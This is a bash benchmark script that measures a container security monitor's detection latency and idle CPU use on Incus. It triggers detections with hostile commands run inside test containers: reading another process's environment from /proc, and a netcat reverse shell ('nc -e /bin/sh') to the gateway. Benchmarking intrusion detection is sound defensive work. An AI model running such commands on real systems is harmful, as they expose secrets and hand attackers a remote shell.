#!/bin/bash
# SPDX-License-Identifier: MIT
# monitor-bench.sh [TRIALS] [IDLE_SECONDS]: the monitor's figures, not a test.
#  - detection latency, from the kernel's timestamp of the malicious exec to the container
#    contained (its cgroup frozen by the monitor) and to the response done (Incus reports it
#    FROZEN for HIGH; stopped and deleted for CRITICAL), p50/p95 over TRIALS trials each;
#  - CPU of the monitor: 3 idle containers, each with its own supervisor, for IDLE_SECONDS.
set -u
trials=${1:-10}
idle=${2:-60}
. "$(dirname "$0")/monitor-lib.sh"

pct() { sort -n | awk -v p="$1" '{a[NR]=$1} END {i=int((NR-1)*p/100+0.5)+1; if(i>NR)i=NR; printf "%.1f", a[i]}'; }

# HIGH: one container, a different pid each time (a repeat would be deduplicated).
c=$(t_name monbench)
m_launch "$c" >/dev/null || exit 1
m_monitor "$c"
: >"$COI_HOME/high.txt"
for i in $(seq "$trials"); do
    m_run "$c" "cat /proc/$i/environ >/dev/null 2>&1; true" &
    m_wait_state "$c" FROZEN || echo "trial $i: not frozen" >&2
    line=$(m_audit "$c" | jq -c "select(.evidence.process.pattern == \"/proc/$i/environ\" and .action == \"paused\")" | head -1)
    printf '%s\n' "$line" | jq -r '"\(.contained_ms) \(.response_ms)"' >>"$COI_HOME/high.txt"
    "$COI" unfreeze "$c" >/dev/null
    wait
done
incus delete -f "$c" >/dev/null

# CRITICAL: a fresh container each time.
: >"$COI_HOME/crit.txt"
for i in $(seq "$trials"); do
    c=$(t_name monbench)
    m_launch "$c" >/dev/null || exit 1
    m_monitor "$c"
    m_run "$c" "nc -e /bin/sh $GW 4444 & sleep 1"
    m_wait_state "$c" "" || echo "trial $i: not gone" >&2
    m_wait_rule "$c" revshell-netcat | jq -r '"\(.contained_ms) \(.response_ms)"' >>"$COI_HOME/crit.txt"
done

echo "detection latency over $trials trials (ms, from the exec's kernel timestamp):"
for f in high crit; do
    name=$([ $f = high ] && echo "HIGH -> frozen" || echo "CRITICAL -> gone")
    echo "  $name: contained p50 $(awk '{print $1}' "$COI_HOME/$f.txt" | pct 50) p95 $(awk '{print $1}' "$COI_HOME/$f.txt" | pct 95);" \
        "done p50 $(awk '{print $2}' "$COI_HOME/$f.txt" | pct 50) p95 $(awk '{print $2}' "$COI_HOME/$f.txt" | pct 95)"
done

# CPU with idle sessions.
pids=()
for i in 1 2 3; do
    c=$(t_name monbench)
    t_defer "incus delete -f '$c' >/dev/null 2>&1"
    m_launch "$c" >/dev/null || exit 1
    pids+=("$("$COI" monitor "$c" --daemon)")
done
sleep 2
cpu() { awk '{print $14 + $15}' "/proc/$1/stat"; }
before=()
for p in "${pids[@]}"; do before+=("$(cpu "$p")"); done
sleep "$idle"
hz=$(getconf CLK_TCK)
total=0
for k in 0 1 2; do
    d=$(($(cpu "${pids[$k]}") - ${before[$k]}))
    total=$((total + d))
    echo "  monitor $((k + 1)): $d ticks in ${idle} s"
done
awk -v t="$total" -v hz="$hz" -v s="$idle" 'BEGIN {printf "CPU with 3 idle monitored containers: %.3f%% of one core per monitor (%.1f ms CPU per minute each)\n", 100*t/hz/s/3, 1000*t/hz/3*60/s}'
